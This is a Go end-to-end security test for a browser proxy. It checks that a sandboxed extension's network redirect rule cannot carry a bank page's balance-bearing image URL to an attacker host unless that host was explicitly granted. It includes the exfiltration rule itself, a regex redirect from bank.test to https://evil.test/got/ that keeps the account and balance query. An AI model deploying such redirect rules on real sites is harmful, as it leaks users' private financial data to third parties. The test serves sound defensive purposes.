package e2e

import (
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/remixproxy/remixproxy/e2e/e2etest"
	"github.com/remixproxy/remixproxy/sandbox"
	"github.com/remixproxy/remixproxy/store"
)

// A remixlet approved on bank.test and evil.test with the netrules permission: its rule
// redirects bank.test's own image (its address carries the balance) to evil.test, with a
// regex substitution that keeps the query. Chromium follows the proxy's 307. A redirect may
// go only within the requesting page's site, the request's own site, or to a fetch: host
// (netrules/redirectscope.go), so evil.test gets nothing and the image loads from bank.test.
// Control: the same rules with fetch:evil.test granted do reach evil.test.
func TestRedteamNetRulesRedirectCarriesNothingOffTheSite(t *testing.T) {
	evil := &witness{}
	const rules = `[{"id": 1, "action": {"type": "redirect", "redirect": {"regexSubstitution": "https://evil.test/got/\\1"}},
	  "condition": {"regexFilter": "^https://bank\\.test/(api/.*)$", "resourceTypes": ["image"]}}]`
	sites, p, tab := e2etest.StartProxied(t, map[string]http.Handler{
		"evil.test": evil,
		"bank.test": http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if strings.HasPrefix(r.URL.Path, "/api/") {
				imageSite().ServeHTTP(w, r)
				return
			}
			htmlPage(w, imagesPage("", "https://bank.test/api/balance.png?acct=123&balance=4711&t="+r.URL.Query().Get("t")))
		}),
	}, e2etest.WithStore())
	rx := saveAndActivate(t, p.Store, "two sites", store.Files{
		sandbox.ManifestFile: []byte(`{"name": "two sites", "api": 1, "matches": ["https://bank.test/*", "https://evil.test/*"],
		  "permissions": [{"name": "netrules", "reason": "Tidies addresses."}]}`),
		sandbox.ScriptFile: []byte("rmx.log('on');\n"),
		sandbox.RulesFile:  []byte(rules),
	})
	p.Server.InvalidateNetRules()

	tab.Navigate("https://bank.test/?t=1")
	tab.WaitFor(10*time.Second, "the image settled", `document.body.dataset.done === '1'`)
	if got := evil.requests(); len(got) != 0 {
		t.Errorf("evil.test got %q, want nothing", got)
	}
	if got := imageStates(tab)["i0"]; got != "loaded" || sites.Requests("bank.test", "/api/balance.png") != 1 {
		t.Errorf("the image %s, bank.test asked %d times; want it loaded from bank.test once", got, sites.Requests("bank.test", "/api/balance.png"))
	}
	if log := remixletLog(t, p.Store, rx.ID); !strings.Contains(log, "rule 1 did not redirect") {
		t.Errorf("the remixlet's log does not say the redirect was withheld:\n%s", log)
	}

	// Control: the person granted fetch:evil.test, so the same rule may send there.
	if err := p.Store.SetEnabled(t.Context(), rx.ID, false); err != nil {
		t.Fatal(err)
	}
	saveAndActivate(t, p.Store, "granted", store.Files{
		sandbox.ManifestFile: []byte(`{"name": "granted", "api": 1, "matches": ["https://bank.test/*", "https://evil.test/*"],
		  "permissions": [{"name": "netrules", "reason": "Tidies addresses."}, {"name": "fetch:evil.test", "reason": "Sends there."}]}`),
		sandbox.ScriptFile: []byte("rmx.log('on');\n"),
		sandbox.RulesFile:  []byte(rules),
	})
	p.Server.InvalidateNetRules()
	tab.Navigate("https://bank.test/?t=2")
	deadline := time.Now().Add(10 * time.Second)
	for len(evil.requests()) == 0 && time.Now().Before(deadline) {
		time.Sleep(50 * time.Millisecond)
	}
	if got := evil.requests(); len(got) != 1 || !strings.Contains(got[0], "/got/api/balance.png?acct=123&balance=4711&t=2") {
		t.Errorf("control: evil.test got %q, want the redirected image once", got)
	}
}
